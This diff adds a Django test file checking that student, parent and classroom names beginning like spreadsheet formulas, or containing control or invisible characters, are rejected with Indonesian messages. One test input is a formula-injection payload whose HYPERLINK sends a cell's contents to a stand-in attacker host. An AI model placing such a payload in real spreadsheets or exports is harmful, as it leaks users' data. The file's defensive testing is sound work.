@@ -1,0 +1,123 @@
+"""Names (student, parent, classroom) that no spreadsheet runs and every screen shows as typed."""
+
+import pytest
+from django.core.exceptions import ValidationError
+from django.utils import translation
+
+from students.forms import StudentForm
+from students.models import Classroom, Student
+from students.validators import validate_name
+
+FORMULAS = [
+    '==HYPERLINK("http://evil.test/?x="&A2,"klik")',
+    "+62 812",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+INVISIBLE = [
+    "Aisyah\nPutri",  # Cc: a line break
+    "Aisyah\x1bPutri",  # Cc: escape
+    "Aisyah\u200bPutri",  # Cf: zero-width space
+    "Aisyah\u00adPutri",  # Cf: soft hyphen
+    "\u202eirtuP hasyiA",  # Cf: right-to-left override, shown as "Aisyah Putri"
+    "\ufeffAisyah",  # Cf: a byte-order mark pasted from a file
+    "Aisyah\u2028Putri",  # Zl: line separator
+    "Aisyah\ufffdPutri",  # a character lost in a conversion
+]
+GOOD = ["Aisyah Putri", "Nur'aini", "Siti-Aisyah", "Ibu Ani (alm.)", "Muhammad Al-Fatih", "محمد"]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_a_name_beginning_like_a_formula_is_refused(name):
+    with pytest.raises(ValidationError) as caught:
+        validate_name(name)
+    assert caught.value.code in {"formula_start", "control_character"}
+
+
+@pytest.mark.parametrize("name", INVISIBLE)
+def test_a_name_with_a_control_or_invisible_character_is_refused_naming_it(name):
+    char = next(c for c in name if not (c.isalpha() or c in " '"))
+
+    with pytest.raises(ValidationError) as caught:
+        validate_name(name)
+
+    assert caught.value.code == "control_character"
+    assert caught.value.params == {"char": f"U+{ord(char):04X}"}
+
+
+@pytest.mark.parametrize("name", GOOD)
+def test_ordinary_names_are_accepted(name):
+    validate_name(name)
+
+
+def message_of(name):
+    with pytest.raises(ValidationError) as caught:
+        validate_name(name)
+    return caught.value.messages[0]
+
+
+def test_the_messages_are_indonesian():
+    with translation.override("id"):
+        formula, control = message_of("=1"), message_of("A\nB")
+
+    assert formula.startswith("Nama tidak boleh diawali =, +, -, @, tab, atau baris baru")
+    assert control.startswith("Nama tidak boleh memuat baris baru, tab")
+    assert control.endswith("(ditemukan U+000A).")
+
+
+def _data(classroom, **changes):
+    return {
+        "nis": "1234567890",
+        "full_name": "Aisyah Putri",
+        "classroom": classroom.pk,
+        "parent_name": "Ibu Siti",
+        "parent_phone": "0812-3456-7890",
+        **changes,
+    }
+
+
+@pytest.mark.parametrize("field", ["full_name", "parent_name"])
+@pytest.mark.parametrize("name", ["=1+1", "@Ibu", "Ibu\u200bSiti", "Ibu\nSiti"])
+def test_the_student_form_refuses_such_names(classroom, field, name):
+    form = StudentForm(data=_data(classroom, **{field: name}))
+
+    assert not form.is_valid()
+    assert form.has_error(field, code="formula_start") or form.has_error(
+        field, code="control_character"
+    )
+
+
+def test_the_student_admin_says_why_in_indonesian(admin_client, classroom):
+    response = admin_client.post(
+        "/admin/students/student/add/", _data(classroom, full_name="-Aisyah")
+    )
+
+    assert response.status_code == 200
+    assert "Nama tidak boleh diawali =, +, -, @" in response.content.decode()
+    assert not Student.objects.exists()
+
+
+@pytest.mark.parametrize("name", ["TK A\nMelati", "=TK A", "TK\u202eA"])
+def test_the_classroom_admin_refuses_such_names(admin_client, db, name):
+    response = admin_client.post("/admin/students/classroom/add/", {"name": name})
+
+    assert response.status_code == 200
+    assert response.context["adminform"].form.has_error("name")
+    assert not Classroom.objects.exists()
+
+
+def test_full_clean_applies_the_rule(classroom):
+    student = Student(nis="1", full_name="+Aisyah", classroom=classroom, parent_name="Ibu\tSiti")
+
+    with pytest.raises(ValidationError) as caught:
+        student.full_clean()
+
+    assert set(caught.value.error_dict) == {"full_name", "parent_name"}
+
+
+def test_an_empty_parent_name_is_still_allowed(classroom):
+    form = StudentForm(data=_data(classroom, parent_name=""))
+
+    assert form.is_valid(), form.errors
